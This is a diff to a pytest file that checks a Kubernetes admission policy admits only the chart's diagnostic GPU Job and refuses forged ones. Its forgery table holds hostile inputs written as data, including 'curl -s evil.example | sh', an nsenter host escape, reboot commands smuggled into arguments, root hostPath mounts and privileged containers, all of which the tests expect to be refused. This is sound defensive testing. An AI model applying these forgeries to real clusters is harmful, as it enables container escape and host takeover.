@@ -1,7 +1,7 @@
 """The remediator's ServiceAccount may create Jobs in a privileged namespace: the chart's ValidatingAdmissionPolicy
-admits from it only Jobs of the two templates' shape. The fake API server enforces the rendered policy with its own
-CEL (tests/fakes/apiserver/admission.py), against Jobs rendered by the real remediator/act/node_jobs.py and sent by
-the official client with the remediator's token."""
+admits from it only Jobs of the three templates' shape (reset, reboot, diagnose). The fake API server enforces the
+rendered policy with its own CEL (tests/fakes/apiserver/admission.py), against Jobs rendered by the real
+remediator/act/node_jobs.py and diagnose_job.py and sent by the official client with the remediator's token."""
 
 from __future__ import annotations
 
@@ -14,8 +14,11 @@ import pytest
 from kubernetes import client
 from kubernetes.client.exceptions import ApiException
 
+from remediator.act.diagnose_job import render_diagnose_job
 from remediator.act.node_jobs import render_job
+from remediator.decide.diagnosis import Provisioned, Purpose
 from remediator.policy import Policy
+from remediator.policy.integrations import DiagnoseSettings
 from tests.fakes.apiserver import FakeCluster
 from tests.support import chart_rbac
 from tests.support.chart_render import render
@@ -240,3 +243,180 @@ def test_the_policy_can_be_turned_off() -> None:
              render({"remediator": {"jobs": {"admissionPolicy": {"enabled": False}}}})}
     assert ("ValidatingAdmissionPolicy", POLICY_NAME) not in kinds
     assert ("ValidatingAdmissionPolicy", POLICY_NAME) in {(d["kind"], d["metadata"]["name"]) for d in render()}
+
+
+# The diagnostic Job (remediator/act/templates/diagnose.yaml.j2): the DCGM collect step, privileged, as an init
+# container, and gpuhealth's judge, unprivileged, with an emptyDir between them and the host's /sys read-only.
+P5 = Provisioned(gpus=8, efa=32, instance_type="p5.48xlarge")
+DCGM_MIRROR = "registry.example.com/mirror/dcgm@sha256:" + "cd" * 32
+
+
+def _diagnose(policy: Policy | None = None, purpose: Purpose = Purpose.DIAGNOSE,
+              given: Provisioned = P5) -> dict[str, Any]:
+    return render_diagnose_job(f"gpuhealth-{purpose}-gpu-0-1a2b3c4d", "gpu-0", purpose, given,
+                               policy or chart_policy())
+
+
+def _collect(job: dict[str, Any]) -> dict[str, Any]:
+    container: dict[str, Any] = job["spec"]["template"]["spec"]["initContainers"][0]
+    return container
+
+
+def _judge(job: dict[str, Any]) -> dict[str, Any]:
+    return _container(job)
+
+
+def test_the_charts_collect_image_is_the_remediators_default() -> None:
+    """The policy admits diagnose.image at the remediator's own default when the chart's policy names none."""
+    assert chart_policy().diagnose.image == DiagnoseSettings().image
+    assert f"runs {DiagnoseSettings().image} (policy diagnose.image)" in json.dumps(
+        next(d for d in render() if d["kind"] == "ValidatingAdmissionPolicy" and d["metadata"]["name"] == POLICY_NAME))
+
+
+@pytest.mark.parametrize(("purpose", "given"), [(Purpose.DIAGNOSE, P5), (Purpose.VALIDATE, P5),
+                                                (Purpose.SWEEP, Provisioned(None, None, "")),
+                                                (Purpose.DIAGNOSE, Provisioned(8, None, "Standard_ND96isr_H100_v5"))])
+def test_the_diagnostic_job_as_the_chart_configures_it_is_admitted(cluster: FakeCluster, purpose: Purpose,
+                                                                   given: Provisioned) -> None:
+    job = _diagnose(purpose=purpose, given=given)
+    _batch(cluster).create_namespaced_job(NS, job)
+    pod = cluster.jobs[(NS, job["metadata"]["name"])]["spec"]["template"]["spec"]
+    assert [c["name"] for c in pod["initContainers"]] == ["collect"] and pod["containers"][0]["name"] == "judge"
+    assert pod["containers"][0]["image"] == chart_policy().diagnose.judge_image
+    assert "hostPID" not in pod and "securityContext" not in pod["containers"][0]
+
+
+@pytest.mark.parametrize("level", [2, 3])
+def test_the_diagnostic_job_with_the_policys_level_and_floor_is_admitted(level: int) -> None:
+    values = {"remediator": {"policy": {"diagnose": {"level": level, "nccl_floor_gbps": 350, "timeout": "90m"}}}}
+    policy = chart_policy(values)
+    with FakeCluster() as c:
+        c.add_node("gpu-0")
+        chart_rbac.enforce(c, values)
+        job = _diagnose(policy)
+        assert _judge(job)["command"][-2:] == ["--nccl-floor", "350"] and _collect(job)["command"][4] == str(level)
+        _batch(c).create_namespaced_job(NS, job)
+        assert (NS, job["metadata"]["name"]) in c.jobs
+
+
+def test_mirrored_diagnostic_images_are_the_ones_the_policy_admits() -> None:
+    values = {"image": {"repository": "registry.example.com/mirror/gpuhealth", "tag": "0.2.0"},
+              "remediator": {"policy": {"diagnose": {"image": DCGM_MIRROR}}}}
+    policy = chart_policy(values)
+    assert policy.diagnose.image == DCGM_MIRROR
+    assert policy.diagnose.judge_image == "registry.example.com/mirror/gpuhealth:0.2.0"
+    with FakeCluster() as c:
+        c.add_node("gpu-0")
+        chart_rbac.enforce(c, values)
+        _batch(c).create_namespaced_job(NS, _diagnose(policy))
+        upstream = _diagnose(chart_policy(), Purpose.VALIDATE)
+        assert "diagnose.image" in _refused(c, upstream)["message"]  # the upstream images are no longer admitted
+
+
+def _forge_diagnose(change: Callable[[dict[str, Any]], object]) -> dict[str, Any]:
+    job = _diagnose()
+    change(job)
+    return job
+
+
+def _pod(job: dict[str, Any]) -> dict[str, Any]:
+    pod: dict[str, Any] = job["spec"]["template"]["spec"]
+    return pod
+
+
+def _volume(job: dict[str, Any], name: str) -> dict[str, Any]:
+    volume: dict[str, Any] = next(v for v in _pod(job)["volumes"] if v["name"] == name)
+    return volume
+
+
+def _arg(container: dict[str, Any], flag: str, value: str) -> None:
+    container["command"][container["command"].index(flag) + 1] = value
+
+
+FORGED_DIAGNOSE: dict[str, Callable[[dict[str, Any]], object]] = {
+    "another collect image": lambda j: _collect(j).update(image="docker.io/library/ubuntu:24.04"),
+    "the job image in the collect step": lambda j: _collect(j).update(image=chart_policy().jobs.image),
+    "another judge image": lambda j: _judge(j).update(image="docker.io/library/python:3.11"),
+    "the collect image as the judge": lambda j: _judge(j).update(image=chart_policy().diagnose.image),
+    "the collect script changed": lambda j: _collect(j)["command"].__setitem__(2, "nsenter -t 1 -m -- sh -c id"),
+    "another collect command": lambda j: _collect(j).update(command=["bash", "-c", "curl -s evil.example | sh"]),
+    "a shell in the level": lambda j: _collect(j)["command"].__setitem__(4, "2; reboot"),
+    "a level dcgmi does not have": lambda j: _collect(j)["command"].__setitem__(4, "4"),
+    "seconds that are not a number": lambda j: _collect(j)["command"].__setitem__(5, "$(reboot)"),
+    "an extra argument to the collect script": lambda j: _collect(j)["command"].append("--extra"),
+    "args after the collect command": lambda j: _collect(j).update(args=["x"]),
+    "an environment for bash": lambda j: _collect(j)["env"].append({"name": "BASH_ENV", "value": "/diag/x"}),
+    "an environment from a secret": lambda j: _collect(j).update(envFrom=[{"secretRef": {"name": "s"}}]),
+    "an environment for the judge": lambda j: _judge(j).update(env=[{"name": "PYTHONSTARTUP", "value": "/x"}]),
+    "the collect step as a sidecar": lambda j: _collect(j).update(restartPolicy="Always"),
+    "a collect step that is not privileged": lambda j: _collect(j).pop("securityContext"),
+    "a collect securityContext beyond privileged": lambda j: _collect(j)["securityContext"].update(
+        capabilities={"add": ["ALL"]}),
+    "a privileged judge": lambda j: _judge(j).update(securityContext={"privileged": True}),
+    "a judge with capabilities": lambda j: _judge(j).update(securityContext={"capabilities": {"add": ["SYS_ADMIN"]}}),
+    "another judge command": lambda j: _judge(j).update(command=["python", "-c", "import os; os.system('id')"]),
+    "an extra judge argument": lambda j: _judge(j)["command"].append("--verbose"),
+    "a judge at another level than the collect step": lambda j: _arg(_judge(j), "--level", "3"),
+    "an option for an instance type": lambda j: _arg(_judge(j), "--instance-type", "--dir"),
+    "a GPU count that is not a number": lambda j: _arg(_judge(j), "--gpus-expected", "eight"),
+    "another sysfs root": lambda j: _arg(_judge(j), "--sysfs-root", "/"),
+    "the host's root instead of /sys": lambda j: _volume(j, "host-sys")["hostPath"].update(path="/"),
+    "another hostPath volume": lambda j: (
+        _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
+        _judge(j)["volumeMounts"].append({"name": "root", "mountPath": "/host/root", "readOnly": True})),
+    "the host's /sys writable in the judge": lambda j: _judge(j)["volumeMounts"][1].pop("readOnly"),
+    "the host's /sys in the collect step": lambda j: _collect(j)["volumeMounts"].append(
+        {"name": "host-sys", "mountPath": "/host/sys", "readOnly": True}),
+    "the emptyDir in memory": lambda j: _volume(j, "diag").update(emptyDir={"medium": "Memory", "sizeLimit": "1Ti"}),
+    "the emptyDir as a hostPath": lambda j: _volume(j, "diag").update(emptyDir=None, hostPath={"path": "/var/lib"}),
+    "a mount with propagation": lambda j: _collect(j)["volumeMounts"][0].update(mountPropagation="Bidirectional"),
+    "a second init container": lambda j: _pod(j)["initContainers"].append(copy.deepcopy(_collect(j))),
+    "no collect step": lambda j: _pod(j).pop("initContainers"),
+    "a privileged extra container": lambda j: _pod(j)["containers"].append(
+        {"name": "shell", "image": chart_policy().diagnose.image, "command": ["sleep", "inf"],
+         "securityContext": {"privileged": True}}),
+    "the host PID namespace": lambda j: _pod(j).update(hostPID=True),
+    "the host network": lambda j: _pod(j).update(hostNetwork=True),
+    "another ServiceAccount": lambda j: _pod(j).update(serviceAccountName="gpuhealth-remediator"),
+    "a token mounted": lambda j: _pod(j).update(automountServiceAccountToken=True),
+    "a node its label does not name": lambda j: _pod(j).update(nodeName="gpu-1"),
+    "huge requests in the collect step": lambda j: _collect(j).update(resources={"requests": {"memory": "1Ti"}}),
+    "a resource the templates do not ask for": lambda j: _collect(j)["resources"]["requests"].update(
+        {"nvidia.com/gpu": "8"}),
+    "retries": lambda j: j["spec"].update(backoffLimit=6),
+}
+
+
+@pytest.mark.parametrize("forgery", sorted(FORGED_DIAGNOSE))
+def test_a_forged_diagnostic_job_is_refused_403(cluster: FakeCluster, forgery: str) -> None:
+    _refused(cluster, _forge_diagnose(FORGED_DIAGNOSE[forgery]))
+
+
+def test_a_reset_job_labelled_as_a_diagnosis_and_a_diagnosis_labelled_as_a_reset_are_refused(
+        cluster: FakeCluster) -> None:
+    reset = _reset()
+    reset["metadata"]["labels"]["app.kubernetes.io/component"] = "diagnose"
+    assert "init: only the diagnostic Job's one" in _refused(cluster, reset)["message"]
+    diagnosis = _diagnose()
+    diagnosis["metadata"]["labels"]["app.kubernetes.io/component"] = "reset-gpu"
+    _refused(cluster, diagnosis)
+
+
+def test_a_reset_in_the_collect_steps_clothes_is_refused(cluster: FakeCluster) -> None:
+    """The collect step runs privileged in the DCGM image: only the chart's collect script may run there."""
+    job = _diagnose()
+    _collect(job)["command"] = _container(_reset())["command"]
+    assert "this chart's collect script" in _refused(cluster, job)["message"]
+
+
+def test_the_diagnostic_job_without_a_judge_image_in_the_chart_is_refused_whatever_its_judge() -> None:
+    values = {"remediator": {"policy": {"diagnose": {"judge_image": None}}}}
+    assert chart_policy(values).diagnose.judge_image is None
+    with FakeCluster() as c:
+        c.add_node("gpu-0")
+        chart_rbac.enforce(c, values)
+        for image in (chart_policy().diagnose.judge_image, ""):
+            job = _diagnose()
+            job["metadata"]["name"] += f"-{len(image or '')}"
+            _judge(job)["image"] = image
+            assert "judge_image is not set" in _refused(c, job)["message"]
